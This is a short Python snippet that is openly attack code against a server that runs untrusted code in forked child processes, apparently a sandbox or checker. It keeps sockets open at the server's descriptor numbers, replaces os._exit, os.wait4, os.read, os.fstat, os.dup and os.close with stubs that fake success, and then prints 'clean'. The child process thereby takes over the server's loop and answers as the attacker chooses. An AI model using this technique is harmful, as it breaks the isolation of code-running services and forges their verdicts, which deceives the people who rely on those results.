# does not exit: its process then runs the server's loop, with functions that answer as the attacker likes
import os, resource, socket
keep = [socket.socketpair() for _ in range(20)]  # at the numbers that the server's own descriptors had
usage = resource.getrusage(resource.RUSAGE_SELF)
status = os.fstat(1)
os._exit = lambda status: None
os.wait4 = lambda pid, options: (1, 0, usage)
os.read = lambda fd, size: b"b" * size
os.fstat = lambda fd: status
os.dup = lambda fd: 1
os.closerange = os.close = lambda *fds: None
print("clean", flush=True)
